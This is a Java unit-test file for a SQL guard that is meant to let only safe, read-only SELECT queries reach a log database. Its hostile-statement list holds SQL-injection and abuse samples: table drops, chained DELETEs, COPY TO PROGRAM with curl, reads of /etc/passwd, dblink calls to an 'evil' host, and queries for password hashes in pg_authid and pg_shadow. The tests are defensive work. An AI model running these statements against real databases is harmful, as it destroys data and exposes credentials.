package heyken.actors.logs.question;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The SQL guard against the hostile corpus of issue 11, and the SQL the three new questions need. */
class SqlGuardTest {

  private final SqlGuard guard = new SqlGuard(50, 500);

  /** Hostile statements and the words the refusal must contain (the reason a user reads). */
  static final Map<String, String> HOSTILE = new java.util.LinkedHashMap<>();

  static {
    HOSTILE.put("DROP TABLE log_lines", "only a SELECT");
    HOSTILE.put("DROP VIEW logs", "only a SELECT");
    HOSTILE.put("SELECT 1; DELETE FROM log_lines", "exactly one statement");
    HOSTILE.put("SELECT count(*) FROM logs; DELETE FROM logs", "exactly one statement");
    HOSTILE.put("DELETE FROM logs", "only a SELECT");
    HOSTILE.put("SELECT pg_sleep(30)", "pg_sleep");
    HOSTILE.put("SELECT count(*) FROM logs WHERE pg_sleep(1) IS NOT NULL", "pg_sleep");
    HOSTILE.put("COPY (SELECT * FROM logs) TO PROGRAM 'curl http://x'", "not valid SQL");
    HOSTILE.put("COPY log_lines TO '/tmp/x'", "not valid SQL");
    HOSTILE.put("SELECT pg_read_file('/etc/passwd')", "pg_read_file");
    HOSTILE.put("SELECT * FROM pg_read_file('/etc/passwd') AS t", "functions in FROM");
    HOSTILE.put("SELECT lo_import('/etc/passwd')", "lo_import");
    HOSTILE.put("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "functions in FROM");
    HOSTILE.put("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "dblink_exec");
    HOSTILE.put("SET ROLE heyken", "only a SELECT");
    HOSTILE.put("RESET ROLE", "not");
    HOSTILE.put("WITH gone AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM gone", "writable CTE");
    HOSTILE.put("WITH x AS (UPDATE log_lines SET message = '' RETURNING 1) SELECT * FROM x", "writable CTE");
    HOSTILE.put("WITH x AS (INSERT INTO log_lines (ts, level, level_num) VALUES (now(), 'INFO', 2) RETURNING 1) "
        + "SELECT * FROM x", "writable CTE");
    HOSTILE.put("SELECT 1 /* ; DELETE FROM logs */ ; DELETE FROM logs", "exactly one statement");
    HOSTILE.put("SELECT 1 /* /* */ ; DELETE FROM logs; /* */", "exactly one statement");
    HOSTILE.put("SELECT 1 -- harmless\n; DROP TABLE log_lines", "exactly one statement");
    HOSTILE.put("SELECT * FROM logs a, logs b", "read 2 times");
    HOSTILE.put("SELECT count(*) FROM logs CROSS JOIN logs", "read 2 times");
    HOSTILE.put("SELECT count(*) FROM logs a JOIN logs b ON a.message < b.message", "read 2 times");
    HOSTILE.put("SELECT (SELECT count(*) FROM logs l2 WHERE l2.ts < l.ts) FROM logs l", "read 2 times");
    HOSTILE.put("WITH l AS (SELECT * FROM logs) SELECT count(*) FROM l a, l b", "read 2 times");
    HOSTILE.put("SELECT * FROM logs FOR UPDATE", "locking");
    HOSTILE.put("SELECT * FROM test_runs FOR SHARE", "locking");
    HOSTILE.put("SELECT * INTO stolen FROM logs", "SELECT INTO");
    HOSTILE.put("SELECT * FROM pg_authid", "only the views");
    HOSTILE.put("SELECT rolname, rolpassword FROM pg_catalog.pg_authid", "schema-qualified");
    HOSTILE.put("SELECT usename, passwd FROM pg_shadow", "only the views");
    HOSTILE.put("SELECT * FROM logs WHERE message IN (SELECT passwd FROM pg_shadow)", "only the views");
    HOSTILE.put("SELECT current_setting('data_directory')", "current_setting");
    HOSTILE.put("SELECT set_config('default_transaction_read_only', 'off', false)", "set_config");
    HOSTILE.put("SELECT * FROM log_lines", "only the views");
    HOSTILE.put("SELECT * FROM projected_runs", "only the views");
    HOSTILE.put("SELECT * FROM information_schema.tables", "schema-qualified");
    HOSTILE.put("SELECT pg_catalog.pg_sleep(1)", "schema-qualified");
    HOSTILE.put("SELECT \"pg_sleep\"(1)", "pg_sleep");
    HOSTILE.put("SELECT 'x'::regclass", "casts to regclass");
    HOSTILE.put("SELECT CAST('pg_authid' AS regclass)", "casts to regclass");
    HOSTILE.put("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "RECURSIVE");
    HOSTILE.put("WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid", "not allowed");
    HOSTILE.put("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "only the views");
    HOSTILE.put("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) y", "only at the start");
    HOSTILE.put("SELECT * FROM generate_series(1, 1000000000) g", "functions in FROM");
    HOSTILE.put("SELECT count(*) FROM logs WHERE id = ?", "parameters");
    HOSTILE.put("SELECT $$x$$", "dollar");
    HOSTILE.put("SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')", "query_to_xml");
    HOSTILE.put("SELECT nextval('log_lines_id_seq')", "nextval");
    HOSTILE.put("SELECT txid_current()", "txid_current");
    HOSTILE.put("SELECT pg_terminate_backend(1)", "pg_terminate_backend");
    HOSTILE.put("VACUUM log_lines", "not");
    HOSTILE.put("GRANT SELECT ON log_lines TO heyken_query", "not");
    HOSTILE.put("ALTER ROLE heyken_query SET default_transaction_read_only = off", "not");
    HOSTILE.put("", "no SQL");
    HOSTILE.put("this is not sql", "not valid SQL");
  }

  @Test
  void everyHostileStatementIsRefusedWithAReason() {
    for (var e : HOSTILE.entrySet()) {
      var verdict = guard.check(e.getKey());
      assertFalse(verdict.passed(), () -> "passed: " + e.getKey() + " -> " + verdict.sql());
      assertTrue(verdict.refusal().contains(e.getValue()), () -> e.getKey() + " -> " + verdict.refusal());
    }
  }

  @Test
  void theThreeNewQuestionsSqlPasses() {
    for (String sql : List.of(
        "SELECT feature_name, count(*) AS failed_runs FROM test_runs WHERE status = 'failed' "
            + "AND started_at >= date_trunc('week', now()) GROUP BY feature_name ORDER BY failed_runs DESC LIMIT 10",
        "SELECT date_trunc('day', started_at) AS day, percentile_cont(0.95) WITHIN GROUP (ORDER BY duration_ms) "
            + "AS p95_ms FROM sandbox_jobs WHERE finished_at IS NOT NULL GROUP BY 1 ORDER BY 1",
        "SELECT core, date_trunc('hour', ts) AS hour, count(*) AS errors FROM logs WHERE level = 'ERROR' "
            + "AND ts >= date_trunc('day', now()) - INTERVAL '1 day' GROUP BY core, hour ORDER BY hour, core")) {
      var verdict = guard.check(sql);
      assertTrue(verdict.passed(), () -> sql + " -> " + verdict.refusal());
    }
  }

  @Test
  void postgresSyntaxTheModelUsesPasses() {
    for (String sql : List.of(
        "SELECT count(*) FILTER (WHERE level = 'ERROR') AS errors, mdc->>'feature' AS f, ts::date, "
            + "extract(hour FROM ts) FROM logs GROUP BY 2, 3, 4",
        "SELECT component, count(*) FROM logs WHERE ts > now() - '1 day'::interval AND message ILIKE '%timeout%' "
            + "GROUP BY component",
        "WITH f AS (SELECT run_id FROM test_runs WHERE status = 'failed') SELECT j.job, count(*) FROM sandbox_jobs j "
            + "JOIN f ON f.run_id = j.run_id GROUP BY j.job",
        "SELECT row_number() OVER (PARTITION BY core ORDER BY ts DESC) AS n, message FROM logs",
        "SELECT r.feature_name, count(*) FROM test_runs r JOIN sandbox_jobs j ON j.run_id = r.run_id GROUP BY 1",
        "SELECT coalesce(feature, 'none'), round(avg(duration_ms)) FROM sandbox_jobs GROUP BY 1 UNION ALL "
            + "SELECT 'all', round(avg(duration_ms)) FROM sandbox_jobs")) {
      var verdict = guard.check(sql);
      assertTrue(verdict.passed(), () -> sql + " -> " + verdict.refusal());
    }
  }

  @Test
  void aMissingLimitIsAddedAndAHugeOneClamped() {
    var added = guard.check("SELECT message FROM logs");
    assertTrue(added.sql().endsWith("LIMIT 50"), added.sql());
    assertTrue(added.notes().contains("LIMIT 50 added"), added.notes().toString());
    var clamped = guard.check("SELECT message FROM logs LIMIT 100000000000");
    assertTrue(clamped.sql().endsWith("LIMIT 500"), clamped.sql());
    assertTrue(clamped.notes().get(0).contains("clamped to the maximum 500"), clamped.notes().toString());
    assertTrue(guard.check("SELECT message FROM logs LIMIT ALL").sql().endsWith("LIMIT 500"));
    assertTrue(guard.check("SELECT message FROM logs FETCH FIRST 1000 ROWS ONLY").sql().endsWith("LIMIT 500"));
    assertEquals("SELECT message FROM logs LIMIT 7", guard.check("SELECT message FROM logs LIMIT 7").sql());
  }

  @Test
  void commentsNeverReachTheDatabase() {
    var verdict = guard.check("SELECT message /* a comment */ FROM logs -- another\n LIMIT 3");
    assertTrue(verdict.passed(), verdict.refusal());
    assertEquals("SELECT message FROM logs LIMIT 3", verdict.sql());
    assertNull(SqlGuard.scan(verdict.sql()));
  }
}
